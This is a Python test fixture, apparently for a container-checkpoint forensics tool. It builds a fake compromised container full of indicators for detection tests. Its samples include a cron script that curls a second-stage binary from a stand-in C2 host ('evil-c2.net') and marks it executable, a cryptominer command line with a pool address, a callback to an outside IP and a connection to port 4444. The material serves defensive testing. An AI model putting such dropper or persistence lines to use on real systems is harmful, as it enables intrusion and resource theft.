"""A made-up container that leaves indicators behind, in every place where they are looked for."""

from __future__ import annotations

import hashlib

from cryoscope.checkpoint.checkpoint import Checkpoint
from tests.checkpoint.built_samples import PAGE, image, made, pagemap
from tests.examine.findings.scenes import Mapped, Proc, container, inet

FAR, FAR6, HIDDEN = "45.33.32.156", "2600:3c01::f03c:91ff:fe18:bb2f", "185.220.101.4"
DOMAIN, URL = "evil-c2.net", "http://evil-c2.net:8080/stage2.bin"


def program(seed: int, size: int = 20_000) -> bytes:
    """Bytes that begin as ELF files do and go on without order."""
    blocks = [hashlib.sha256(f"{seed}.{n}".encode()).digest() for n in range(size // 32)]
    return b"\x7fELF\x02\x01\x01".ljust(64, b"\0") + b"".join(blocks)


DROPPER, MINER = program(1), program(2)
SCRIPT = (
    b"#!/bin/sh\n# fetch and run the second stage of it\ncurl -s "
    + URL.encode()
    + b" -o /tmp/.x\nchmod 755 /tmp/.x\n"
)
TEXT = b"just a text that nobody runs, with http://harmless-text.net/ in it\n"
ROOTFS = {
    "/tmp/.x/miner": MINER,
    "/usr/local/bin/tool": DROPPER,
    "/etc/cron.hourly/update": SCRIPT,
    "/srv/notes.txt": TEXT,
    "/etc/passwd": b"root:x:0:0::/:/bin/sh\n",
}
MODES = {"/tmp/.x/miner": 0o755, "/usr/local/bin/tool": 0o755, "/etc/cron.hourly/update": 0o755}
HEAP = b"\0".join(
    [
        b"GET http://in-memory.net/path HTTP/1.1",
        b"https://user:hunter2@in-memory.net/login",
        b"mallory@bad-mail.net",
        b"xmlns=http://www.w3.org/1999/xhtml see https://www.debian.org/legal",
        b"10.9.8.7:53 and http://db.corp.internal/ and 224.0.0.1",
    ]
)


def attacked() -> Checkpoint:
    """The container."""
    first = Proc(1, ["server"], mapped=[Mapped(0x7000_0000, PAGE, prot=3, pages={0: HEAP})])
    miner = Proc(
        7,
        ["miner", "-o", "stratum+tcp://pool.coin-dig.net:3333", "--password", "geheim"],
        exe="/tmp/.x/miner",
        ppid=1,
        env={"CALLBACK": f"http://{HIDDEN}/"},
        fds={3: inet((FAR, 4444)), 4: inet(("10.1.2.3", 5432), local=("10.88.0.2", 1))},
    )
    return made(made_images(container(first, miner, rootfs=ROOTFS, modes=MODES)))


def memfd(
    contents: bytes, name: bytes = b"payload", claimed: int | None = None, absent: int = -1
) -> Checkpoint:
    """A process that runs a memfd with these contents, without the page number `absent`."""
    count = -(-len(contents) // PAGE)
    pages = [contents[at * PAGE : (at + 1) * PAGE].ljust(PAGE, b"\0") for at in range(count)]
    there = [number for number in range(count) if number != absent and pages[number].strip(b"\0")]
    described = {"name": name, "uid": 0, "gid": 0, "size": claimed or len(contents), "seals": 0}
    opened = {"flags": 2, "pos": 0, "inode_id": 700, "id": 5, "fown": {"uid": 0, "euid": 0, "signum": 0}}
    whole = made_images(container(Proc(1, ["payload"], exe="/bin/sh")))
    return made(
        whole
        | {
            "files.img": image("FILES", {"type": 18, "id": 1, "memfd": opened | {"id": 1}}),
            "memfd.img": image("MEMFD_INODE", described | {"shmid": 900, "inode_id": 700}),
            "pagemap-shmem-900.img": pagemap(*((number * PAGE, 1, 4) for number in there), pages_id=9),
            "pages-9.img": b"".join(pages[number] for number in there),
        }
    )


def made_images(checkpoint: Checkpoint) -> dict[str, bytes]:
    """The images of another checkpoint, to be made anew with some changed, and where processes stand."""
    archive = checkpoint.archive
    names = [name for name in archive.members if "inventory" not in name]
    images = {name.removeprefix("checkpoint/"): archive.read(name) for name in names}
    stands = image("FS", {"cwd_id": 0, "root_id": 0})
    return images | {f"fs-{process.pid}.img": stands for process in checkpoint.processes}
